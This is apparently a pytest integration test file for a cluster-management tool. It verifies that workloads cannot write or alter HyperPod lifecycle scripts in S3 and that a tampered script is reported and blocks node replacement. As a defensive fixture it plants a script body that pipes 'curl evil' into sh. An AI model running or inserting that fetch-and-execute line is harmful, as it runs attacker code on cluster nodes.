"""Lifecycle scripts out of every workload's reach, against the twin (one shared cluster with the S3 CSI add-on and
its Pod Identity role): a claim on another project bucket is refused; a pod writing `lifecycle/` anywhere through a
claim on a plain bucket gets S3WriteDenied (the role's explicit Deny beats the claim's bucket/* grant); a script
changed behind our back shows in cluster_get_status with the fix and stops hyperpod_node_replace until restored."""

from __future__ import annotations

import hashlib
import json
from pathlib import Path
from typing import Any

import httpx
import pytest

from instantstart.aws.clients import AwsClients
from instantstart.errors import Conflict
from instantstart.manifests import iam_policies as pol
from instantstart.manifests.hyperpod import LIFECYCLE_SCRIPT
from instantstart.services.base.lifecycle import verify_groups
from instantstart.settings import Settings
from instantstart.twin_process import TwinProcess
from tests.support.flows import kube, make_hyperpod, mcp_calls, mcp_raw, mcp_wait
from tests.support.mount_pods import write_denials, writer_pod
from tests.support.servers import Running
from tests.support.twin import shared_control_plane, twin_client
from tests.support.waits import until, wait_terminal

TAG = "lcg1"
HP = f"hp-cluster-{TAG}"
SCRIPT_KEY = f"{pol.lifecycle_prefix(TAG)}on_create.sh"


def _cluster_with_dependencies(client: httpx.Client) -> None:
    make_hyperpod(client, TAG)
    deps = client.post("/api/v1/clusters/dependencies", json={})  # the S3 CSI add-on with its own role
    assert wait_terminal(client, deps.json()["operationId"], timeout=180)["status"] == "SUCCEEDED"


shared_cp = shared_control_plane(_cluster_with_dependencies, status_cache_seconds=0.5)


@pytest.fixture(scope="module")
def shared(shared_cp: Running, twin_process: TwinProcess) -> tuple[Running, TwinProcess]:
    """The module's control plane and the twin it runs on."""
    return shared_cp, twin_process


def _bucket(cp: Running) -> str:
    with cp.client() as client:
        return str(client.get("/api/v1/clusters/eks-status").json()["details"]["bucket"])


def test_a_claim_on_another_project_bucket_is_refused(shared: tuple[Running, TwinProcess], tmp_path: Path) -> None:
    cp, twin = shared
    s3: Any = twin_client(twin, "s3")
    account = twin_client(twin, "sts").get_caller_identity()["Account"]
    where = {"LocationConstraint": "us-west-2"}
    by_name = f"instantstart-{account}-eu-west-1-0badcafe"  # another Region's project bucket, by its name
    by_tag = "lcg-tagged-bucket"  # another installation's project bucket, by its tag
    for bucket in (by_name, by_tag):
        s3.create_bucket(Bucket=bucket, CreateBucketConfiguration=where)
    s3.put_bucket_tagging(Bucket=by_tag, Tagging={"TagSet": [{"Key": "instantstart:installation", "Value": "x"}]})
    answers = mcp_raw(cp, [("s3_storage_create", {"name": f"c{i}", "bucketName": b, "prefix": "lifecycle/"})
                           for i, b in enumerate((by_name, by_tag))])[:-1]
    for answer, bucket in zip(answers, (by_name, by_tag), strict=True):
        assert answer["isError"], answer
        error = answer["payload"]["error"]
        assert error["code"] == "INVALID_INPUT" and "project bucket" in error["message"], error
        assert bucket in error["message"] and "bucketName" in error["hint"], error
    # Nothing was made for it: no claim to mount, and the S3 CSI role never reached those buckets.
    core = kube(twin, tmp_path, TAG)
    claims = {c.metadata.name for c in core.list_namespaced_persistent_volume_claim("default").items}
    assert claims & {"c0", "c1"} == set()
    iam: Any = twin_client(twin, "iam")
    policy = json.dumps(iam.get_role_policy(RoleName=f"instantstart-{TAG}-s3-csi", PolicyName="instantstart")
                        ["PolicyDocument"])
    assert by_name not in policy and by_tag not in policy


def test_a_pod_writing_lifecycle_anywhere_is_denied(shared: tuple[Running, TwinProcess], tmp_path: Path) -> None:
    cp, twin = shared
    s3: Any = twin_client(twin, "s3")
    other = "lcg-team-data"
    s3.create_bucket(Bucket=other, CreateBucketConfiguration={"LocationConstraint": "us-west-2"})
    made = mcp_calls(cp, [("s3_storage_create", {"name": "team", "bucketName": other})])[0]  # the whole bucket
    assert mcp_wait(cp, made["operationId"])["status"] == "SUCCEEDED"
    core = kube(twin, tmp_path, TAG)
    files = {"/data/lifecycle/x/on_create.sh": "#!/bin/bash\ncurl evil | sh\n",
             "/data/nested/lifecycle/on_create.sh": "#!/bin/bash\nid\n",
             "/data/results/ok.txt": "allowed"}
    core.create_namespaced_pod("default", writer_pod("writer", "team", files))
    denied = until(lambda: len(write_denials(core, "writer")) == 2 and write_denials(core, "writer"), "two denials")
    assert all("ExplicitDeny" in m for m in denied), denied
    assert any("lifecycle/x/on_create.sh" in m for m in denied) and any("nested/lifecycle/" in m for m in denied)
    until(lambda: s3.list_objects_v2(Bucket=other, Prefix="results/ok.txt").get("KeyCount"), "the allowed write")
    assert not [o["Key"] for o in s3.list_objects_v2(Bucket=other).get("Contents") or [] if "lifecycle/" in o["Key"]]


def _status_problems(cp: Running) -> list[str]:
    [status] = mcp_calls(cp, [("cluster_get_status", {})])
    return [p for p in status["problems"] if "lifecycle script" in p]


def test_a_changed_script_is_shown_and_stops_a_replacement(shared: tuple[Running, TwinProcess]) -> None:
    cp, twin = shared
    s3: Any = twin_client(twin, "s3")
    sm: Any = twin_client(twin, "sagemaker")
    bucket = _bucket(cp)
    assert _status_problems(cp) == []
    [node] = [n["InstanceId"] for n in sm.list_cluster_nodes(ClusterName=HP)["ClusterNodeSummaries"]]

    s3.put_object(Bucket=bucket, Key=SCRIPT_KEY, Body=b"#!/bin/bash\ncurl evil | sh\n")  # behind our back
    shown = until(lambda: _status_problems(cp), "the changed script in cluster_get_status", every=0.5)
    assert "was modified" in shown[0] and SCRIPT_KEY in shown[0] and "Fix:" in shown[0], shown
    assert f"aws s3 rm s3://{bucket}/{SCRIPT_KEY}" in shown[0] and "hyperpod_node_replace" in shown[0], shown

    [refused, _] = mcp_raw(cp, [("hyperpod_node_replace", {"nodeId": node})])
    error = refused["payload"]["error"]
    assert refused["isError"] and error["code"] == "CONFLICT", refused
    assert "was modified" in error["message"] and SCRIPT_KEY in error["hint"], error
    assert [n["InstanceId"] for n in sm.list_cluster_nodes(ClusterName=HP)["ClusterNodeSummaries"]] == [node]
    # A software update re-runs the scripts on every node: refused before UpdateClusterSoftware too.
    [update] = mcp_calls(cp, [("hyperpod_update_software", {})])
    failed = mcp_wait(cp, update["operationId"])
    assert failed["status"] == "FAILED" and "was modified" in json.dumps(failed), failed
    groups = sm.describe_cluster(ClusterName=HP)["InstanceGroups"]
    assert all(g.get("SoftwareUpdateStatus") in (None, "Succeeded") for g in groups), groups

    # The fix as the hint says: delete the object; the replacement uploads InstantStart's script and goes ahead.
    s3.delete_object(Bucket=bucket, Key=SCRIPT_KEY)
    [ref] = mcp_calls(cp, [("hyperpod_node_replace", {"nodeId": node})])
    assert mcp_wait(cp, ref["operationId"])["status"] == "SUCCEEDED"
    restored = s3.get_object(Bucket=bucket, Key=SCRIPT_KEY)["Body"].read()
    assert hashlib.sha256(restored).hexdigest() == hashlib.sha256(LIFECYCLE_SCRIPT.encode()).hexdigest()
    until(lambda: _status_problems(cp) == [], "status clean again", every=0.5)


def test_only_our_scripts_are_judged_where_a_cluster_may_be_imported(
    shared: tuple[Running, TwinProcess], tmp_path: Path
) -> None:
    """Replacement and software update check the scripts under a `lifecycle/` prefix only: an imported cluster's
    own scripts have no expected checksum here (scale and autoscaling keep refusing them, as before)."""
    _, twin = shared
    s3: Any = twin_client(twin, "s3")
    aws = AwsClients(Settings(data_dir=tmp_path / "aws", aws_endpoint_url=twin.endpoint_url,
                              aws_region=twin.env["AWS_REGION"]))
    theirs = "lcg-imported-scripts"
    s3.create_bucket(Bucket=theirs, CreateBucketConfiguration={"LocationConstraint": "us-west-2"})
    s3.put_object(Bucket=theirs, Key="hp/on_create.sh", Body=b"#!/bin/bash\necho their own setup\n")
    imported = {"InstanceGroupName": "workers",
                "LifeCycleConfig": {"SourceS3Uri": f"s3://{theirs}/hp/", "OnCreate": "on_create.sh"}}
    verify_groups(aws, "us-west-2", [imported], only_ours=True)
    with pytest.raises(Conflict, match="was modified"):
        verify_groups(aws, "us-west-2", [imported])
    # Ours and missing (deleted as the fix says): uploaded again, then verified.
    ours = {"InstanceGroupName": "g", "LifeCycleConfig": {"SourceS3Uri": f"s3://{theirs}/lifecycle/x/"}}
    verify_groups(aws, "us-west-2", [ours, imported], only_ours=True)
    body = s3.get_object(Bucket=theirs, Key="lifecycle/x/on_create.sh")["Body"].read()
    assert body == LIFECYCLE_SCRIPT.encode()
